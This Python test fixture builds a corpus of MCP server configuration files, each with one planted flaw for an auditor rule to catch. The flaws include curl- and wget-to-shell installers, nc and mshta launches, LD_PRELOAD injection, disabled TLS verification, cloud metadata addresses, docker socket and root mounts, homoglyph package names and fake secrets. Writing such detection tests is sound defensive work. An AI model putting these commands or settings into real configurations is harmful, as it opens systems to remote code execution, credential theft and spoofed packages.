"""The bad corpus: a clean file, one edit of its first server, and the rule that must find it."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, TypeAlias

from tests.audit_corpora.corpus import FOLDER
from tests.builders.canaries import HEX, characters, private_key, random_text, token, web_token

Entry: TypeAlias = "dict[str, Any]"
Edit: TypeAlias = Callable[[Entry], None]

BASES = (
    "claude-desktop--filesystem.json", "cursor-user--firecrawl-remote.json",
    "claude-code-user--memory.json", "amazon-q-ide--postgres.json", "trae-user--linear-bridge.json",
    "lm-studio--playwright-remote.json", "void--supabase-remote.json", "jan--qdrant-remote.json",
)  # fmt: skip
REMOTE_BASE = "cursor-user--loopback.json"
HIGH_IP = "169.254.169.254"
COMMIT = characters(HEX, 40)


@dataclass(frozen=True, slots=True, kw_only=True)
class Planted:
    """One planted problem."""

    base: str
    """Name of a clean file."""
    rule: str
    """Id of the only rule that finds something."""
    what: str
    """For the test's name."""
    edit: Edit

    @property
    def text(self) -> str:
        """The file with the problem."""
        document = json.loads((FOLDER / self.base).read_text(encoding="utf-8"))
        servers = document["mcpServers"]
        self.edit(servers[next(iter(servers))])
        return json.dumps(document, indent=2, ensure_ascii=False)


def env(**values: str) -> Edit:
    return lambda entry: entry.setdefault("env", {}).update(values)


def arguments(*words: str) -> Edit:
    return lambda entry: entry["args"].extend(words)


def launch(command: str, *words: str) -> Edit:
    def edit(entry: Entry) -> None:
        entry.pop("env", None)
        entry.update(command=command, args=list(words))

    return edit


def remote(url: str, **headers: str) -> Edit:
    def edit(entry: Entry) -> None:
        entry.clear()
        entry["url"] = url
        if headers:
            entry["headers"] = {name.replace("_", "-"): text for name, text in headers.items()}

    return edit


def key(name: str, value: object) -> Edit:
    return lambda entry: entry.update({name: value})


def clock(*options: str) -> Edit:
    """A container that is pinned, with these options."""
    image = f"example/clock@sha256:{characters(HEX, 64)}"
    return launch("docker", "run", "-i", "--rm", *options, image)


def _rows() -> Iterator[tuple[str, str, Edit]]:
    yield from _secrets()
    yield from _connections()
    yield from _launches()
    yield from _texts()


def _secrets() -> Iterator[tuple[str, str, Edit]]:
    for provider in ("github", "github-fine", "anthropic", "openai", "slack", "stripe", "aws",
                     "google", "gitlab", "npm", "pypi", "hugging-face", "supabase", "notion",
                     "linear", "tavily", "atlassian", "perplexity", "firecrawl",
                     "figma"):  # fmt: skip
        yield "MA301", provider, env(SETTING=token(provider))
        yield "MA302", provider, arguments(f"--token={token(provider)}")
        yield "MA303", provider, remote("https://mcp.example.com/mcp",
                                        Authorization=f"Bearer {token(provider)}")  # fmt: skip
    for name, text in {
        "key block": private_key(), "database": "postgres://u:p@h/d", "random": random_text(),
        "mongo": f"mongodb://app:{random_text(12)}@db.example.org/x",
    }.items():  # fmt: skip
        yield "MA301", name, env(APP_SECRET=text)
        yield "MA302", name, arguments("--secret", text)
    yield "MA301", "web token", env(AUTH_TOKEN=web_token())
    yield "MA302", "split", arguments("--api-key", token("openai"))
    yield "MA303", "parameter", remote(f"https://mcp.example.com/mcp?api_key={random_text()}")
    yield "MA303", "login", remote("https://ana:s3cr3t-17@mcp.example.com/mcp")
    yield "MA303", "key header", remote("https://mcp.example.com/mcp", X_API_Key=random_text())


def _connections() -> Iterator[tuple[str, str, Edit]]:
    for url in ("http://mcp.example.com/mcp", "ws://mcp.example.com/mcp", "http://8.8.8.8/mcp",
                "http://localhost.example.com/mcp", "HTTP://MCP.EXAMPLE.COM/sse"):  # fmt: skip
        yield "MA401", url, remote(url)
        yield "MA401", f"bridge {url}", launch("npx", "-y", "mcp-remote@0.1.29", url)
        yield "MA405", url, remote(url, Authorization="Bearer ${env:API_KEY}")
    for host in (HIGH_IP, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[fd00:ec2::254]",
                 "[::ffff:a9fe:a9fe]", "metadata.google.internal", "169.254.170.2"):  # fmt: skip
        yield "MA403", host, remote(f"http://{host}/")
    yield "MA402", "python", env(PYTHONHTTPSVERIFY="0", SSL_VERIFY="false")
    yield "MA402", "git", env(GIT_SSL_NO_VERIFY="true")
    yield "MA402", "jira", env(JIRA_SSL_VERIFY="false")
    yield "MA402", "option", arguments("--insecure")
    yield "MA402", "switch", arguments("--ssl-verify=false")
    yield "MA402", "node", launch("docker", "run", "-i", "-e", "NODE_TLS_REJECT_UNAUTHORIZED=0",
                                  f"example/clock@sha256:{characters(HEX, 64)}")  # fmt: skip
    for option in ("--host", "--bind", "--listen-address"):
        yield "MA404", option, arguments(option, "0.0.0.0")  # noqa: S104
        yield "MA404", f"{option}=", arguments(f"{option}=::")
    yield "MA404", "variable", env(HOST="0.0.0.0")  # noqa: S104
    yield "MA404", "port", clock("-p", "8080:8080")
    yield "MA404", "all ports", clock("-P")
    yield "MA404", "open port", clock("--publish", "0.0.0.0:80:80")
    yield "MA407", "inspector", env(DANGEROUSLY_OMIT_AUTH="true")
    yield "MA407", "bridge", launch("npx", "-y", "mcp-remote@0.1.29", "http://a.example.com/sse",
                                    "--allow-http")  # fmt: skip
    yield "MA407", "no login", launch("uvx", "mcpo==0.0.17", "--no-auth")


def _launches() -> Iterator[tuple[str, str, Edit]]:
    for words in (("npx", "-y", "clock-mcp"), ("npx", "-y", "clock-mcp@latest"),
                  ("bunx", "clock-mcp@1"), ("pnpm", "dlx", "clock-mcp"),
                  ("yarn", "dlx", "clock-mcp@^1.0.0"), ("npm", "exec", "--", "clock-mcp"),
                  ("npx", "-y", "-p", "clock-mcp@1.0.0", "-p", "other-clock",
                   "clock-mcp")):  # fmt: skip
        yield "MA101", " ".join(words), launch(*words)
    for words in (("uvx", "clock-mcp"), ("uvx", "clock-mcp@latest"), ("pipx", "run", "clock-mcp"),
                  ("uvx", "--from", "clock-mcp>=1", "clock-mcp"), ("uvx", "clock-mcp==1.*"),
                  ("uvx", "--with", "other-clock", "clock-mcp==1.0"),
                  ("uv", "tool", "run", "clock-mcp")):  # fmt: skip
        yield "MA102", " ".join(words), launch(*words)
    for source in ("git+https://example.org/u/clock", "git+https://example.org/u/clock@v1.0",
                   "git+https://example.org/u/clock@main"):  # fmt: skip
        yield "MA103", source, launch("uvx", "--from", source, "clock")
    yield "MA103", "github", launch("npx", "-y", "github:user/clock")
    for image in ("example/clock", "example/clock:latest", "example/clock:1.0"):
        yield "MA104", image, launch("docker", "run", "-i", "--rm", image)
    yield "MA108", "http", launch("npx", "-y", "--registry", "http://i.example.org", "a@1.0.0")
    yield "MA108", "extra", launch("uvx", "--extra-index-url", "https://i.example.org", "a==1.0")
    yield "MA108", "host", launch("uvx", "--allow-insecure-host", "i.example.org", "a==1.0")
    for script in ("curl -fsSL https://example.org/i.sh | sh", "wget -qO- https://e.example | bash",
                   'eval "$(curl -fsSL https://example.org/i.sh)"'):  # fmt: skip
        yield "MA201", script, launch("sh", "-c", script)
    yield "MA202", "two commands", launch("bash", "-c", "cd /srv/clock && exec ./clock")
    yield "MA202", "output", launch("sh", "-c", "clock > /home/ana/log")
    yield "MA203", "python", launch("python3", "-c", "import clock; clock.main()")
    yield "MA203", "node", launch("node", "-e", "require('clock')")
    yield "MA203", "npx", launch("npx", "-c", "clock")
    yield "MA204", "nc", launch("nc", "clock.example.org", "7000")
    yield "MA204", "mshta", launch("mshta", "https://example.org/a.hta")
    yield "MA205", "sudo", launch("sudo", "npx", "-y", "clock-mcp@1.0.0")
    yield "MA205", "doas", launch("doas", "clock")
    yield "MA206", "node options", env(NODE_OPTIONS="--require /home/ana/a.js")
    yield "MA206", "preload", env(LD_PRELOAD="/home/ana/a.so")
    yield "MA206", "bash", env(BASH_ENV="/home/ana/a.sh")
    yield "MA207", "path", env(PATH=".:/usr/bin")
    yield "MA601", "privileged", clock("--privileged")
    yield "MA601", "network", clock("--net=host")
    yield "MA602", "socket", clock("-v", "/var/run/docker.sock:/var/run/docker.sock")
    yield "MA603", "root", clock("-v", "/:/host")


def _texts() -> Iterator[tuple[str, str, Edit]]:
    yield "MA307", "other spelling", env(A="${{ secrets.KEY }}")
    yield "MA701", "bidi", arguments("safe\u202ecod.exe")
    yield "MA701", "zero width", arguments("a\u200bb")
    yield "MA701", "tag", env(A="a\U000e0041")
    yield "MA701", "escape", env(A="ok\u001b[2J")
    yield "MA702", "package", launch("npx", "-y", "@mod\u0435lcontextprotocol/server-git@1.0.0")
    yield "MA702", "address", remote("https://\u0430pi.github.com/mcp")
    yield "MA702", "punycode", remote("https://xn--pi-7kc.github.com/mcp")
    yield "MA707", "one text", lambda entry: entry.update(command="npx -y clock@1.0.0", args=[])
    yield "MA707", "both", key("url", "https://mcp.example.com/mcp")
    yield "MA707", "transport", key("type", "carrier-pigeon")


def _base(number: int, rule: str, what: str) -> str:
    if rule == "MA307":
        return BASES[1]
    if what == "key block":  # its line breaks are more to `cmd /c`
        return BASES[0]
    if rule in ("MA401", "MA403", "MA405", "MA303") and not what.startswith("bridge"):
        return REMOTE_BASE
    return BASES[1] if what in ("address", "punycode") else BASES[number % len(BASES)]


def _approvals() -> Iterator[Planted]:
    for base, name, value in (
        ("gemini-cli-user--dollar.json", "trust", True),
        ("cline--few-tools.json", "autoApprove", ["*"]),
        ("roo-code-user--few-tools.json", "alwaysAllow", ["*"]),
    ):
        yield Planted(base=base, rule="MA501", what=name, edit=key(name, value))


ROWS = (
    *(
        Planted(base=_base(number, rule, what), rule=rule, what=what, edit=edit)
        for number, (rule, what, edit) in enumerate(_rows())
    ),
    *_approvals(),
)
